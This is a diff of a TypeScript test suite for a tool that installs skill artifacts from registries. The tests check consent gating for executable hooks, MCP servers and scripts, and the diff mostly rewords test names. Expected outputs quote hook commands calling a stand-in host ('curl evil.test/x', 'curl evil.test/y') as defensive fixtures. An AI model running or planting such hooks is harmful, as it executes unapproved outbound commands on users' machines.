@@ -40,7 +40,6 @@ const PLAIN: FileTree = {
   'ops/plain/SKILL.md': '---\nname: plain\ndescription: Plain.\n---\nRead.\n',
 };
 
-/** A cloned workspace whose own file names a registry elsewhere. */
 function clone(artifacts: FileTree, more = ''): Workspace {
   return openWorkspace(artifacts, {
     '.catalog/sync.yaml': `defaults: {registry: ../registry, harness: claude-code}\n${more}`,
@@ -77,13 +76,13 @@ describe('a registry that only a cloned workspace names', () => {
     expect(readFileSync(file, 'utf8')).not.toContain('evil.test');
   });
 
-  test('delivers artifacts that run nothing without a question', async () => {
+  test('installs artifacts without executable content without a prompt', async () => {
     const workspace = clone(PLAIN);
     await workspace.ok('sync');
     expect(installed(workspace)).toEqual(['.claude/skills/plain/SKILL.md']);
   });
 
-  test('updates what adds nothing, and asks again for a new command', async () => {
+  test('updates without approval if nothing executable is added, and asks again for a new command', async () => {
     const workspace = clone({ 'ops/hooked/SKILL.md': HOOKED });
     await workspace.ok('sync --approve ops/hooked');
     writeTree(workspace.registry, { 'ops/hooked/SKILL.md': `${HOOKED}More prose.\n` });
@@ -102,7 +101,7 @@ describe('a registry that only a cloned workspace names', () => {
     expect(dry.stdout).toContain('+ SKILL.md: hook on Stop runs: curl evil.test/y');
   });
 
-  test('is not approved by a lock that came with the clone', async () => {
+  test('is not approved by a lock in the clone', async () => {
     const author = clone(EXECUTABLE);
     await author.ok('sync --approve **');
     const workspace = clone(EXECUTABLE);
@@ -140,7 +139,7 @@ describe('a registry that only a cloned workspace names', () => {
     expect(screen).not.toContain('\u001B[2K');
   });
 
-  test.skipIf(!hasTerminal)('asks in a terminal, and remembers a yes', async () => {
+  test.skipIf(!hasTerminal)('prompts in a terminal, and remembers an approval', async () => {
     const workspace = clone({ 'ops/hooked/SKILL.md': HOOKED });
     const no = await runInTerminal('sync', [{ to: /Approve and write\?/, keys: 'n' }], {
       cwd: workspace.root,
@@ -259,7 +258,7 @@ describe('approvals', () => {
     expect((await workspace.error('sync')).error.code).toBe('materialize.consent_required');
   });
 
-  test('come with the facts in show and outdated', async () => {
+  test('show the facts in show and outdated', async () => {
     const workspace = clone({ 'ops/hooked/SKILL.md': HOOKED });
     const line = 'SKILL.md: hook on Stop runs: curl evil.test/x';
     expect((await workspace.ok('show ops/hooked')).stdout).toContain(`  ${line}`);
@@ -271,7 +270,7 @@ describe('approvals', () => {
 });
 
 describe('executable_content', () => {
-  test('denies artifacts and names the file, and delivers the others', async () => {
+  test('denies executable artifacts and names the file, and installs the others', async () => {
     const workspace = openWorkspace({ ...EXECUTABLE, ...PLAIN });
     writeTree(workspace.home, {
       '.catalog/sync.yaml': `defaults: {registry: ${workspace.registry}, harness: claude-code}\nexecutable_content:\n  - {policy: deny, kinds: [hook]}\n`,
@@ -288,7 +287,7 @@ describe('executable_content', () => {
     ]);
   });
 
-  test('of the user allows a registry of the workspace; the more specific rule wins', async () => {
+  test('set by the user allows a registry of the workspace; the more specific rule wins', async () => {
     const workspace = clone(EXECUTABLE);
     writeTree(workspace.home, {
       '.catalog/sync.yaml': `executable_content:\n  - {policy: allow, registry: ${workspace.registry}}\n  - {policy: ask, registry: ${workspace.registry}, kinds: [mcp_server]}\n`,
@@ -300,7 +299,7 @@ describe('executable_content', () => {
     expect(installed(workspace)).toHaveLength(2);
   });
 
-  test('of a workspace tightens, and cannot allow', async () => {
+  test('set by a workspace can tighten the policy, but not relax it', async () => {
     const tight = openWorkspace(EXECUTABLE, {
       '.catalog/sync.yaml': 'executable_content:\n  - {policy: ask}\n',
     });
@@ -316,7 +315,7 @@ describe('executable_content', () => {
 });
 
 describe('a registry over HTTP', () => {
-  test('that only the workspace names needs approval', async () => {
+  test('requires approval if only the workspace names it', async () => {
     const server = await startRegistry({ layers: { base: { ...EXECUTABLE, ...PLAIN } } });
     const workspace = openWorkspace(
       {},
@@ -356,7 +355,7 @@ describe('load_artifact', () => {
     'ops/scripted/scripts/x.sh': { x: '#!/bin/sh\n' },
   };
 
-  test('returns the content and what the user must approve, and writes after approval', async () => {
+  test('returns the content and the required approvals, and writes after approval', async () => {
     const server = await startRegistry({ layers: { base: { ...EXECUTABLE, ...SCRIPTED } } });
     const workspace = openWorkspace();
     const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
@@ -382,7 +381,7 @@ describe('load_artifact', () => {
     expect(installed(workspace)).toContain('.claude/skills/hooked/SKILL.md');
   });
 
-  test('asks the user of the host with the command, not the description', async () => {
+  test('shows the command to the user of the host, not the description', async () => {
     const server = await startRegistry({ layers: { base: EXECUTABLE } });
     const workspace = openWorkspace();
     const env = { CATALOG_REGISTRY: server.url, CATALOG_HARNESS: 'claude-code' };
